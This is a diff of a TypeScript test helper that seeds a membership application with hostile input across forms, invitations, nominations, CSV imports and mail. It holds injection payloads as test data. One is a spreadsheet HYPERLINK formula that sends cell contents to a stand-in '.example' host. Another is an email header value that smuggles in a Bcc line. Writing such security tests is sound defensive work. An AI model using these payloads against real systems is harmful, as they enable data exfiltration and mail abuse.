@@ -1,6 +1,10 @@
+import { form } from '../../src/modules/programs/policy/form.ts';
+import { membership } from '../../src/modules/programs/policy/membership.ts';
 import { openSourcePreset } from '../../src/modules/programs/presets/open-source.ts';
 import { makeTestAccount } from './accounts.ts';
-import type { TestClient, TestHouse } from './house.ts';
+import { askedHow } from './busy-program.ts';
+import { linkIn, type TestClient, type TestHouse } from './house.ts';
+import { answering, openMailbox } from './mailbox.ts';
 import { type Applied, apply, confirm, LOCAL_CHECKS, openProgram, requiring } from './program.ts';
 
 /** In every hostile text, and nowhere in our own. */
@@ -13,6 +17,9 @@ export const FORMULA = `=HYPERLINK("//${MARK}.example/"&A1,"${MARK}")`;
 const HEADER = `${MARK} a\r\nBcc: everybody@${MARK}.example\r\nX-Zqx: 1\r\n\r\nb`;
 const TEXTS = { markup: MARKUP, formula: FORMULA, header: HEADER } as const;
 const LINE_END = /[\r\n]+/g;
+
+/** Keys of pages besides those of applications. */
+export type Others = { give: string; take: string; opinion: string };
 
 type Written = {
   house: TestHouse;
@@ -28,7 +35,7 @@ type Written = {
  * A house in which everything that people can write freely is hostile: applicants, strangers, colleagues. It must allow the private host
  * localhost:9, where nobody listens, so that what webhooks send fails at once. Answers what is needed to look at it.
  */
-export async function writeEverywhere(house: TestHouse): Promise<Written & { draft: string }> {
+export async function writeEverywhere(house: TestHouse): Promise<Written & { draft: string; others: Others }> {
   const { token } = await house.transact((c) =>
     makeTestAccount(c, { role: 'owner', program: null, name: MARKUP.slice(0, 120) }),
   );
@@ -55,6 +62,8 @@ export async function writeEverywhere(house: TestHouse): Promise<Written & { dra
   });
   await writeAsStaff(written);
   for (const text of Object.values(TEXTS)) await applyWith(written, text);
+  for (const text of Object.values(TEXTS)) await writeFromOutside(written, text);
+  const others = await openOthers(written);
   const answers = Object.fromEntries(
     ['applicantName', 'address', 'country', 'project', 'namespaceUrl', 'repositories', 'purpose', 'hosting'].map(
       (name) => [name, MARKUP],
@@ -76,7 +85,7 @@ export async function writeEverywhere(house: TestHouse): Promise<Written & { dra
   });
   house.clock.advance({ minutes: 10 });
   await house.work();
-  return { ...written, draft };
+  return { ...written, draft, others };
 }
 
 /** What people of the organisation write themselves, as hostile as it lets them. */
@@ -101,6 +110,20 @@ async function writeAsStaff({ owner, program }: Written): Promise<void> {
       statements: policy.statements.map((each) => ({ ...each, words: said(each.code) })),
       agreement: { version: MARKUP.slice(0, 40), title: said('Title'), text: said('Text') },
       privacy: { version: MARKUP.slice(0, 40), text: said('Privacy') },
+      form: form.parse({
+        fields: [
+          {
+            ...{ name: 'extra', kind: 'choice', label: said('Field'), hint: said('Hint'), required: false },
+            choices: [{ value: 'one', label: said('Choice') }],
+          },
+        ],
+      }),
+      membership: membership.parse({
+        entry: 'nomination',
+        contacts: [{ role: 'primary', label: said('Contact') }],
+        duties: [{ code: 'story', words: said('Duty') }],
+        levels: [{ code: 'first', label: said('Level') }],
+      }),
       reasons: policy.reasons.map((each) => ({ ...each, label: said('Label'), advice: said('Advice') })),
     },
   });
@@ -149,4 +172,54 @@ async function applyWith({ house, owner, program, applied, keys }: Written, text
   await one('moved', (_id, key) =>
     stranger.programs.changeAddress({ key, address: `moved-${keys.length}@example.org` }),
   );
+}
+
+/** Everything that strangers and colleagues write beside applications: invitations, nominations, customers, mails. */
+async function writeFromOutside({ house, owner, program }: Written, text: string): Promise<void> {
+  const name = text.replace(LINE_END, ' ').slice(0, 200);
+  const n = Object.values<string>(TEXTS).indexOf(text);
+  await owner.programs.invite({ program, name, address: `guest-${n}@example.org`, words: text });
+  await house.stranger.programs.nominate({
+    program: 'open-source',
+    nomineeName: name,
+    nomineeAddress: `named-${n}@example.org`,
+    nominatorName: name,
+    nominatorAddress: `friend-${n}@example.org`,
+    words: text,
+  });
+  await owner.programs.bringCustomers({ csv: `number,name\n"C-${n}","${name.replaceAll('"', '""')}"` });
+  await house.work();
+}
+
+/** A member's references, contacts and an offer to another owner; what was said of a decision; a mail that came in. */
+async function openOthers({ house, owner, program, applied, keys }: Written): Promise<Others> {
+  const key = keys[0] as string;
+  const { rows } = await owner.programs.listMembers({ program });
+  for (const { id } of rows) {
+    await owner.programs.recordReference({ id, kind: 'quote', scope: MARKUP });
+    await owner.programs.recordReference({ id, kind: 'logo', scope: FORMULA });
+  }
+  await house.stranger.programs.saveOwnContact({
+    key,
+    role: 'primary',
+    name: MARKUP.slice(0, 200),
+    address: 'contact@example.org',
+  });
+  const taker = 'taker@example.org';
+  await house.stranger.programs.offerOwner({ key, name: MARKUP.slice(0, 200), address: taker });
+  await house.work();
+  const linkTo = async (address: string, path: string) => {
+    const mails = await house.mailbox(address);
+    const mail = mails.findLast(({ text }) => text.includes(path));
+    return linkIn(mail?.text ?? '', path).slice(path.length, path.length + 43);
+  };
+  const { post } = await openMailbox(house, program);
+  const ours = { message_id: '<nobody@guildhall.example>', reply_to: null, to_address: 'stranger@example.org' };
+  await post(answering(ours, MARKUP, { subject: FORMULA }));
+  await post(answering(ours, FORMULA, { subject: MARKUP }));
+  return {
+    give: await linkTo(applied[0]?.address ?? '', '/m/give/'),
+    take: await linkTo(taker, '/m/take/'),
+    opinion: await askedHow(house, program, applied[0]?.id ?? '', MARKUP),
+  };
 }
